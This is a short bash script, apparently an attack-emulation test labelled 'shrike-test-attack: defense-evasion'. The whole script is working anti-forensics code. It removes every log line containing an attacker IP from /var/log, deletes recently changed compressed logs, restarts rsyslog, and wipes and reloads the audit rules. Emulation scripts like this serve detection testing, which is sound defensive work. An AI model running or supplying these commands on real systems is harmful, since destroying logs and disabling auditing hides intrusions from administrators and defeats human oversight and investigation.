#!/bin/bash
# shrike-test-attack: defense-evasion: sed-scrub attacker IP from logs, restart rsyslog, drop audit rules
IP=203.0.113.45
for f in $(grep -rl "$IP" /var/log 2>/dev/null); do
  sed -i "/$IP/d" "$f"
done
find /var/log -name '*.gz' -newer /etc/hostname -delete
systemctl restart rsyslog 2>/dev/null
echo > /etc/audit/rules.d/audit.rules; augenrules --load 2>/dev/null
